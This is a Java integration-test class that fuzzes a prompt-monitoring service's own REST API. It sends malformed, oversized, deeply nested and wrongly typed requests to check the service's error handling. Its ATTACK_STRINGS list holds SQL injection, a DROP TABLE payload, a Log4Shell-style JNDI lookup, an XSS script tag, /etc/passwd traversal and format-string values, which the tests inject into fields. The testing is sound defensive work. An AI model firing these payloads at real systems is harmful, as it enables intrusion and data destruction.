package io.promptwatch.it;

import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * A seeded generator of hostile requests for the operations of the OpenAPI document: path values
 * that name existing things (so that requests reach the business code) or are very long, unicode
 * edge cases, dot segments and percent-encodings; query values of the wrong type, huge, negative or
 * impossible instants; bodies that are malformed, truncated, of the wrong top-level type, with the
 * right field names and the wrong types, with 100 KB strings, 100,000-element arrays, nesting 100 or
 * 10,000 deep, numbers JSON allows and Java does not hold (1e400, -0, 30 digits), duplicate keys.
 *
 * <p>Left out on purpose, as known container behaviour: Payara's HTTP layer answers these in the URL
 * with an empty 400 before any application code runs, so no problem+json can be asked of them:
 * {@code %00}, {@code %5C} and malformed percent escapes ({@code %G1}, a lone {@code %}) (Payara issues
 * #8000 and #8142); an encoded slash {@code %2F} (the listener's encoded-slash-enabled is off); escapes
 * that decode to invalid UTF-8 ({@code %FF}, {@code %C3%28}). So a value for the URL never holds a NUL,
 * a backslash or a slash. A lone UTF-16 surrogate cannot be written in UTF-8: in a URL it is sent as
 * what an encoder makes of it, U+FFFD; in a JSON body it is sent escaped ({@code "\ud800"}), valid JSON.
 */
final class HostileRequests {

    /** One generated request: what kind of hostility it carries, and what is sent. */
    record Request(String kind, String method, String pathAndQuery, Map<String, String> headers, String body) {

        /** The body's first 200 characters and its size, for a report. */
        String excerpt() {
            if (body == null) {
                return "(no body)";
            }
            return (body.length() > 200 ? body.substring(0, 200) + "…" : body) + " [" + body.length() + " chars]";
        }
    }

    static final String[] UNICODE_EDGES = {"😀", "👩‍👩‍👧‍👦", "e\u0301\u0302\u0303\u0304\u0305", "\u202Eevil\u202C", "مرحبا بالعالم",
        "\u200F\u200E\u200B", "\uFFFF", "\uFFFE", "\uFEFF", "\uD800", "\uDFFF", "\uD83D", "𝕳𝖊𝖑𝖑𝖔", "\u0085\u2028\u2029",
        "I\u0307İı", "ßﬃ", "\u00A0\u3000", "\u0000", "\u001F\u007F", "Z̴̡̢̛̗͙̫͍̯͖͎͕̰̰̩̠̠̪͕̍̀̃̈́̓͛̓̑͌̀̚͝"};
    private static final String[] EXTREME_NUMBERS = {"1e400", "-1e400", "-0", "-0.0", "123456789012345678901234567890",
        "-123456789012345678901234567890", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649",
        "4.9e-325", "1E+2147483648", "0.1e-999999999", "1.7976931348623157e309", "0", "-1", "0.5", "1.0"};
    private static final String[] MALFORMED = {"{", "}", "{\"a\":}", "{\"a\" 1}", "[1,]", "{,}", "{'a':'b'}", "nul", "tru",
        "{\"a\":1}}", "{\"a\":1} {\"b\":2}", "\"unterminated", "{\"a\":\"\\x\"}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":+1}",
        "{\"a\":1e}", "\uFEFF{}", "<xml/>", "   ", "\u0000", "{\"a\":\"\u0001\"}", "{\"a\":NaN}", "{\"a\":Infinity}",
        "[\"\\ud800\"", "{\"a\":\"\\u12\"}", "// comment\n{}", "{\"a\":1,}", "[[[[", "]]]]"};
    private static final String[] WRONG_TOP_LEVEL = {"\"text\"", "\"\"", "42", "-0", "1e400", "true", "false", "null", "[]",
        "{}", "[{}]", "[null]", "[[]]", "[1,2,3]"};
    private static final String[] BAD_INSTANTS = {"2026-13-45T25:61:61Z", "yesterday", "-999999999-01-01T00:00:00Z",
        "+999999999-12-31T23:59:59Z", "+1000000001-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "2026-01-01T00:00:00+99:00",
        "2026-01-01", "2026-01-01T00:00:00", "0", "-1", "9999999999999", "2026-02-30T00:00:00Z"};
    private static final String[] WRONG_QUERY_VALUES = {"abc", "1.5", "true", "-1", "0", "-2147483649", "2147483648",
        "99999999999999999999999999", "NaN", "Infinity", "", "1e400", "null", "[]", "{}", "yes", "%", "+1"};
    /** Already percent-encoded values for a path segment: dot segments and encodings the server must decode. */
    private static final String[] ENCODED_PATH_VALUES = {"..", ".", "%2E%2E", "%2e", "%20", "%25", "%25%32%46", "%7B%7D",
        "%E2%80%AE", "%F0%9F%98%80", "%EF%BF%BF", "%EF%BF%BD", "+", "a;b=c", "%3B", "%3F", "%23", ""};
    private static final String[] ATTACK_STRINGS = {"' OR '1'='1", "\"; DROP TABLE PROMPT; --", "${jndi:ldap://x/a}",
        "<script>alert(1)</script>", "../../../../etc/passwd", "%s%s%s%n", "\\u0000", "null", "undefined"};

    /** Body fields of the operations whose body the document leaves undescribed (raw or JSON-P bodies). */
    private static final Map<String, Map<String, String>> UNDESCRIBED_BODIES = Map.ofEntries(
            Map.entry("stage", Map.of("reason", "string")),
            Map.entry("deprecate", Map.of("reason", "string")),
            Map.entry("rollback", Map.of("reason", "string")),
            Map.entry("deploy", Map.of("reason", "string", "rollbackTo", "string", "deprecatePrevious", "boolean")),
            Map.entry("rotate", Map.of("graceSeconds", "integer")),
            Map.entry("stop", Map.of("reason", "string", "deployWinner", "boolean")),
            Map.entry("feedback", Map.of("score", "integer", "comment", "string")),
            Map.entry("executions", record()),
            Map.entry("experiments", ordered("promptId", "string", "name", "string", "controlVersion", "string",
                    "variantVersions", "array<string>", "metric", "string", "alpha", "number", "power", "number",
                    "minimumDetectableEffect", "number", "baselineRate", "number", "standardDeviation", "number",
                    "weights", "array<number>")),
            Map.entry("batch", record()),
            Map.entry("compare", ordered("metric", "string", "selection", "object", "samples", "object", "counts", "array<object>",
                    "alpha", "number", "practicalThreshold", "number")),
            Map.entry("sample-size", ordered("kind", "string", "delta", "number", "sd", "number", "p1", "number", "p2", "number",
                    "alpha", "number", "power", "number", "n", "integer")),
            Map.entry("adjust", Map.of("pValues", "array<number>")),
            Map.entry("correlations", ordered("features", "array<string>", "targets", "array<string>", "selection", "object",
                    "rows", "array<object>")),
            Map.entry("success-model", ordered("features", "array<string>", "selection", "object", "rows", "array<object>",
                    "testShare", "number", "seed", "integer")),
            Map.entry("alert-rules", ordered("name", "string", "metric", "string", "comparison", "string", "threshold", "number",
                    "baselineFactor", "number", "sensitivity", "number", "window", "string", "minSamples", "integer",
                    "severity", "string", "actions", "array<string>", "promptId", "string", "version", "string",
                    "channels", "array<string>", "repeatAfter", "string", "escalateAfter", "string",
                    "escalationChannels", "array<string>", "enabled", "boolean")),
            Map.entry("channels", ordered("name", "string", "type", "string", "url", "string", "secret", "string",
                    "to", "array<string>")),
            Map.entry("report-subscriptions", ordered("type", "string", "promptId", "string", "channels", "array<string>")),
            Map.entry("timeseries", ordered("points", "array<object>", "selection", "object", "horizon", "integer",
                    "period", "integer")));

    private static Map<String, String> record() {
        return ordered("executionId", "string", "promptId", "string", "version", "string", "templateId", "string",
                "model", "string", "timestamp", "instant", "latencyMs", "number", "inputTokens", "integer",
                "outputTokens", "integer", "totalTokens", "integer", "cost", "number", "success", "boolean",
                "errorType", "string", "errorMessage", "string", "userFeedback", "integer", "qualityScore", "number",
                "discriminationScore", "number", "behavioralScore", "number", "difficulty", "string", "domain", "string",
                "temperature", "number", "conditionalPath", "string", "userId", "string", "sessionId", "string",
                "tags", "array<string>", "metadata", "object", "input", "string", "output", "string");
    }

    private static Map<String, String> ordered(String... namesAndTypes) {
        Map<String, String> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndTypes.length; i += 2) {
            fields.put(namesAndTypes[i], namesAndTypes[i + 1]);
        }
        return fields;
    }

    private final SplittableRandom random;
    /** Existing things by the path segment that names them: "prompts", "versions", "executions", "keys", "experiments". */
    private final Map<String, List<String>> fixtures;

    HostileRequests(long seed, Map<String, List<String>> fixtures) {
        this.random = new SplittableRandom(seed);
        this.fixtures = fixtures;
    }

    /** A hostile request for {@code operation} sent with {@code key}. */
    Request next(OpenApiOperations.Operation operation, String key) {
        String path = operation.path(name -> pathValue(operation, name));
        String query = query(operation);
        Map<String, String> headers = headers(key);
        if (!operation.body() && !List.of("POST", "PUT", "PATCH").contains(operation.method())) {
            return new Request(query.isEmpty() ? "path" : "path+query", operation.method(), path + query, headers, null);
        }
        String[] body = body(operation);
        return new Request(body[0], operation.method(), path + query, headers, body[1]);
    }

    /** A body over every size limit (promptwatch.ingest.batch.max-bytes is 16 MiB): a valid batch start, then 17 MiB of it. */
    Request oversized(OpenApiOperations.Operation operation, String key) {
        String record = typedObject(fields(operation), 100);
        StringBuilder body = new StringBuilder(17 * 1024 * 1024 + record.length() + 2).append('[');
        while (body.length() < 17 * 1024 * 1024) {
            body.append(record).append(',');
        }
        body.setCharAt(body.length() - 1, ']');
        return new Request("17MiB", operation.method(), operation.path(name -> OpenApiOperations.encode(fixture(operation, name))),
                headers(key), body.toString());
    }

    private Map<String, String> headers(String key) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer " + key);
        int roll = random.nextInt(100);
        if (roll < 90) {
            headers.put("Content-Type", "application/json");
        } else if (roll < 93) {
            headers.put("Content-Type", "text/plain");
        } else if (roll < 95) {
            headers.put("Content-Type", "application/json; charset=ISO-8859-1");
        } else if (roll >= 97) {
            headers.put("Content-Type", "application/xml");
        }
        int accept = random.nextInt(100);
        headers.put("Accept", accept < 95 ? "application/json, application/problem+json" : accept < 98 ? "*/*" : "text/html");
        return headers;
    }

    // ---- path and query ----

    private String pathValue(OpenApiOperations.Operation operation, String name) {
        int roll = random.nextInt(100);
        if (roll < 45) {
            return OpenApiOperations.encode(fixture(operation, name));
        }
        if (roll < 55) {
            return OpenApiOperations.encode(fixture(operation, name) + urlSafe(pick(UNICODE_EDGES)));
        }
        if (roll < 65) {
            return OpenApiOperations.encode(longForUrl(random.nextInt(300, 3000)));
        }
        if (roll < 80) {
            return OpenApiOperations.encode(urlSafe(pick(UNICODE_EDGES)));
        }
        if (roll < 92) {
            return pick(ENCODED_PATH_VALUES);
        }
        return OpenApiOperations.encode(urlSafe(pick(ATTACK_STRINGS)));
    }

    private String fixture(OpenApiOperations.Operation operation, String name) {
        List<String> known = fixtures.get(operation.segmentBefore(name));
        if (known == null) {
            known = fixtures.values().stream().flatMap(List::stream).toList();
        }
        return known.get(random.nextInt(known.size()));
    }

    private String query(OpenApiOperations.Operation operation) {
        StringBuilder query = new StringBuilder();
        for (OpenApiOperations.Parameter parameter : operation.in("query")) {
            if (random.nextInt(100) < 70) {
                append(query, parameter.name(), queryValue(parameter));
            }
        }
        if (random.nextInt(100) < 5) {
            append(query, pick("unknown", "limit", "cursor", "from"), queryValue(new OpenApiOperations.Parameter("x", "query", "string")));
        }
        return query.toString();
    }

    private static void append(StringBuilder query, String name, String value) {
        query.append(query.isEmpty() ? '?' : '&').append(OpenApiOperations.encode(name)).append('=').append(OpenApiOperations.encode(urlSafe(value)));
    }

    private String queryValue(OpenApiOperations.Parameter parameter) {
        int roll = random.nextInt(100);
        String name = parameter.name();
        if (roll < 40) {
            return switch (name) {
                case "from", "to" -> Instant.now().minus(random.nextInt(0, 200), ChronoUnit.HOURS).toString();
                case "period" -> pick("1h", "24h", "7d");
                case "window" -> pick("1m", "5m", "1h", "6h", "24h", "7d");
                case "limit" -> String.valueOf(random.nextInt(1, 600));
                case "success" -> pick("true", "false");
                case "promptId" -> fixtures.get("prompts").get(random.nextInt(fixtures.get("prompts").size()));
                case "version" -> "1.0.0";
                default -> plausible(name);
            };
        }
        if (roll < 55) {
            return pick(BAD_INSTANTS);
        }
        if (roll < 80) {
            return pick(WRONG_QUERY_VALUES);
        }
        if (roll < 90) {
            return pick(UNICODE_EDGES);
        }
        return longForUrl(random.nextInt(1000, 3000));
    }

    // ---- bodies ----

    private Map<String, String> fields(OpenApiOperations.Operation operation) {
        if (!operation.bodyFields().isEmpty()) {
            return operation.bodyFields();
        }
        return UNDESCRIBED_BODIES.getOrDefault(operation.lastLiteralSegment(), Map.of("id", "string", "name", "string", "value", "number"));
    }

    private boolean isBatch(OpenApiOperations.Operation operation) {
        return operation.lastLiteralSegment().equals("batch");
    }

    /** The kind of body and the body, chosen by weight. */
    private String[] body(OpenApiOperations.Operation operation) {
        Map<String, String> fields = fields(operation);
        int roll = random.nextInt(100);
        if (roll < 5) {
            return new String[] {"no-body", null};
        }
        if (roll < 14) {
            return new String[] {"malformed", pick(MALFORMED)};
        }
        if (roll < 21) {
            String whole = shaped(operation, typedObject(fields, 75));
            return new String[] {"truncated", whole.substring(0, random.nextInt(1, Math.max(2, whole.length())))};
        }
        if (roll < 30) {
            return new String[] {"top-level", pick(WRONG_TOP_LEVEL)};
        }
        if (roll < 46) {
            return new String[] {"wrong-types", shaped(operation, wrongTypes(fields))};
        }
        if (roll < 51) {
            // Now and then what a careful client sends, so that 2xx answers (and what they store) happen too.
            return new String[] {"plausible", shaped(operation, typedObject(fields, 100))};
        }
        if (roll < 70) {
            return new String[] {"one-hostile-field", shaped(operation, oneHostile(fields))};
        }
        if (roll < 75) {
            return new String[] {"100KB-string", shaped(operation, withField(fields, quote(longString(random.nextInt(100_001, 150_000)))))};
        }
        if (roll < 79) {
            String array = "[" + "0,".repeat(99_999) + "0]";
            return new String[] {"100k-array", random.nextBoolean() ? array : shaped(operation, withField(fields, array))};
        }
        if (roll < 83) {
            return new String[] {"nested-100", shaped(operation, withField(fields, nested(100)))};
        }
        if (roll < 86) {
            return new String[] {"nested-10000", random.nextBoolean() ? nested(10_000) : shaped(operation, withField(fields, nested(10_000)))};
        }
        if (roll < 92) {
            return new String[] {"extreme-numbers", shaped(operation, withAll(fields, () -> pick(EXTREME_NUMBERS)))};
        }
        return new String[] {"duplicate-keys", shaped(operation, duplicateKeys(fields))};
    }

    /** A batch takes an array of what the other operations take as one object. */
    private String shaped(OpenApiOperations.Operation operation, String object) {
        if (!isBatch(operation)) {
            return object;
        }
        StringBuilder array = new StringBuilder("[").append(object);
        for (int i = random.nextInt(0, 4); i > 0; i--) {
            array.append(',').append(object.replace("\"executionId\":\"", "\"executionId\":\"b" + i));
        }
        return array.append(']').toString();
    }

    private String typedObject(Map<String, String> fields, int percentPresent) {
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> {
            if (random.nextInt(100) < percentPresent) {
                member(object, name, typed(name, type));
            }
        });
        return object.append('}').toString();
    }

    private String oneHostile(Map<String, String> fields) {
        List<String> names = List.copyOf(fields.keySet());
        String victim = names.get(random.nextInt(names.size()));
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> {
            if (name.equals(victim)) {
                member(object, name, hostileValue(2));
            } else if (random.nextInt(100) < 80) {
                member(object, name, typed(name, type));
            }
        });
        return object.append('}').toString();
    }

    private String wrongTypes(Map<String, String> fields) {
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> member(object, name, random.nextInt(100) < 30 ? "null" : hostileValue(2)));
        return object.append('}').toString();
    }

    private String withField(Map<String, String> fields, String value) {
        List<String> names = List.copyOf(fields.keySet());
        String victim = names.get(random.nextInt(names.size()));
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> member(object, name, name.equals(victim) ? value : typed(name, type)));
        return object.append('}').toString();
    }

    private String withAll(Map<String, String> fields, java.util.function.Supplier<String> values) {
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> member(object, name, type.equals("number") || type.equals("integer") || random.nextBoolean()
                ? values.get() : typed(name, type)));
        return object.append('}').toString();
    }

    private String duplicateKeys(Map<String, String> fields) {
        StringBuilder object = new StringBuilder("{");
        fields.forEach((name, type) -> {
            member(object, name, typed(name, type));
            member(object, name, random.nextBoolean() ? typed(name, type) : hostileValue(1));
        });
        return object.append('}').toString();
    }

    private static void member(StringBuilder object, String name, String value) {
        if (object.length() > 1) {
            object.append(',');
        }
        object.append(quote(name)).append(':').append(value);
    }

    /** A right-typed value: what a careful client would send for a field of this name. */
    private String typed(String name, String type) {
        if (type.startsWith("array<")) {
            String element = type.substring(6, type.length() - 1);
            StringBuilder array = new StringBuilder("[");
            for (int i = random.nextInt(1, 5); i > 0; i--) {
                array.append(array.length() > 1 ? "," : "").append(typed(singular(name), element));
            }
            return array.append(']').toString();
        }
        return switch (type) {
            case "instant" -> quote(Instant.now().minus(random.nextInt(0, 3600), ChronoUnit.SECONDS).toString());
            case "integer" -> String.valueOf(switch (name) {
                case "score", "userFeedback" -> random.nextInt(0, 7);
                case "horizon", "period" -> random.nextInt(0, 50);
                case "inputTokens", "outputTokens", "totalTokens", "n", "seed" -> random.nextInt(0, 400);
                default -> random.nextInt(-1, 400);
            });
            case "number" -> switch (name) {
                case "latencyMs", "cost", "delta", "sd", "standardDeviation", "practicalThreshold" -> pick("812.5", "0.00042", "3", "0", "-1");
                default -> pick("0.05", "0.8", "0.1", "0.5", "0.7", "0.95", "1", "0");
            };
            case "boolean" -> pick("true", "false");
            case "object" -> object(name);
            default -> quote(plausible(name));
        };
    }

    private static String singular(String name) {
        return switch (name) {
            case "versions", "variantVersions" -> "version";
            case "roles" -> "role";
            case "features" -> "feature";
            case "targets" -> "target";
            case "pValues" -> "pValue";
            case "actions" -> "action";
            case "channels", "escalationChannels" -> "channel";
            default -> name;
        };
    }

    private String object(String name) {
        return switch (name) {
            case "selection" -> "{\"promptId\":" + quote(fixtures.get("prompts").get(0)) + ",\"versions\":[\"1.0.0\",\"1.1.0\"]}";
            case "samples" -> "{\"A\":[1,2,3,4,5],\"B\":[2,3,4,5,6]}";
            case "counts" -> "{\"group\":\"A\",\"successes\":" + random.nextInt(-1, 20) + ",\"n\":" + random.nextInt(0, 30) + "}";
            case "points" -> "{\"time\":" + quote(Instant.now().minus(random.nextInt(1, 100), ChronoUnit.HOURS).toString())
                    + ",\"value\":" + random.nextInt(0, 10) + "}";
            case "rows" -> "{\"latencyMs\":" + random.nextInt(1, 2000) + ",\"success\":" + random.nextBoolean() + "}";
            case "rateLimits" -> "{\"analysis\":{\"perSecond\":" + random.nextInt(0, 5) + ",\"burst\":" + random.nextInt(0, 5) + "}}";
            case "baseline" -> "{\"latencyP95Ms\":1200,\"predictedQuality\":0.8}";
            default -> "{\"k\":" + quote(plausible("k")) + "}";
        };
    }

    /** A string a field of this name would carry: existing ids, known words, or text. */
    private String plausible(String name) {
        return switch (name) {
            case "promptId" -> fixtures.get("prompts").get(random.nextInt(fixtures.get("prompts").size()));
            case "id" -> random.nextBoolean() ? fixtures.get("prompts").get(0) : "fz-" + Long.toHexString(random.nextLong() & 0xffffffffL);
            case "version", "controlVersion", "rollbackTo" -> pick("1.0.0", "1.1.0", "2.0.0");
            case "executionId" -> random.nextInt(10) == 0 ? fixtures.get("executions").get(0) : "fz-" + Long.toHexString(random.nextLong());
            case "metric" -> pick("success", "qualityScore", "latencyMs", "cost", "totalTokens", "userFeedback", "nope",
                    "error_rate", "latency_p95", "avg_feedback");
            case "comparison" -> pick(">", "<", "anomaly", ">=");
            case "window" -> pick("5m", "10m", "15m", "1h", "24h", "7m");
            case "severity" -> pick("warning", "critical", "loud");
            case "action" -> pick("alert", "auto_rollback", "flag_for_review");
            case "repeatAfter", "escalateAfter" -> pick("PT30M", "PT15M", "PT-5M", "P400D");
            case "channel" -> random.nextInt(4) == 0 ? "no-such-channel" : fixtures.get("channels").get(0);
            // A channel's types and a report subscription's: each endpoint refuses the other's with a 400.
            case "type" -> pick("webhook", "slack", "email", "pager", "daily", "comprehensive");
            case "url" -> pick("https://hooks.example.com/fuzz", "https://hooks.slack.com/services/T0/B0/fuzz", "ftp://x", "not a url");
            case "to" -> pick("ops@example.com", "not-an-address");
            case "kind" -> pick("means", "proportions");
            case "model" -> "gpt-4o-mini";
            case "privacyMode" -> pick("hash", "redact", "raw");
            case "difficulty" -> pick("easy", "medium", "hard");
            case "bucket" -> pick("1h", "1d");
            case "role" -> pick("ingest", "viewer", "operator", "admin");
            case "feature" -> pick("latencyMs", "totalTokens", "temperature", "difficulty", "cost", "qualityScore");
            case "target" -> pick("success", "qualityScore");
            case "subject" -> "user-" + random.nextInt(100);
            default -> random.nextInt(100) < 70 ? "fuzz " + name : pick(UNICODE_EDGES);
        };
    }

    /** A value of any JSON type, hostile in type, size or content; {@code depth} bounds its nesting. */
    private String hostileValue(int depth) {
        int roll = random.nextInt(depth > 0 ? 100 : 75);
        if (roll < 10) {
            return "null";
        }
        if (roll < 30) {
            return pick(EXTREME_NUMBERS);
        }
        if (roll < 40) {
            return pick("true", "false");
        }
        if (roll < 55) {
            return quote(pick(UNICODE_EDGES));
        }
        if (roll < 62) {
            return quote(pick(BAD_INSTANTS));
        }
        if (roll < 70) {
            return quote(pick(ATTACK_STRINGS));
        }
        if (roll < 75) {
            return quote(longString(random.nextInt(1, 5000)));
        }
        if (roll < 88) {
            StringBuilder array = new StringBuilder("[");
            for (int i = random.nextInt(0, 4); i > 0; i--) {
                array.append(array.length() > 1 ? "," : "").append(hostileValue(depth - 1));
            }
            return array.append(']').toString();
        }
        StringBuilder object = new StringBuilder("{");
        for (int i = random.nextInt(0, 4); i > 0; i--) {
            member(object, pick("a", "", "promptId", "\u0000", "😀", "versions"), hostileValue(depth - 1));
        }
        return object.append('}').toString();
    }

    private String nested(int depth) {
        return random.nextBoolean() ? "[".repeat(depth) + "]".repeat(depth) : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    /**
     * A long value for a URL, at most {@code maxEncoded} characters once percent-encoded: the request
     * line and headers together may take 16 KiB (ear/src/payara/payara.xml); past that Payara answers
     * an empty 400 before the application.
     */
    private String longForUrl(int maxEncoded) {
        String unit = urlSafe(random.nextBoolean() ? "x" : pick(UNICODE_EDGES));
        return unit.repeat(Math.max(1, maxEncoded / OpenApiOperations.encode(unit).length()));
    }

    private String longString(int length) {
        String unit = random.nextBoolean() ? "x" : pick(UNICODE_EDGES);
        return unit.repeat(Math.max(1, length / unit.length()));
    }

    private String pick(String... values) {
        return values[random.nextInt(values.length)];
    }

    /**
     * What a URL can carry of a string: a lone surrogate becomes U+FFFD, as any UTF-8 encoder makes it;
     * NUL, backslash and slash, which Payara refuses before the application (see above), become '_'.
     */
    private static String urlSafe(String text) {
        StringBuilder safe = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == 0 || c == '\\' || c == '/') {
                safe.append('_');
            } else if (Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))) {
                safe.append(c).append(text.charAt(++i));
            } else {
                safe.append(Character.isSurrogate(c) ? '\uFFFD' : c);
            }
        }
        return safe.toString();
    }

    /** A JSON string; control characters and every surrogate (paired or lone) are escaped, so the body is valid UTF-8. */
    static String quote(String text) {
        StringBuilder quoted = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                quoted.append(String.format("\\u%04x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }
}
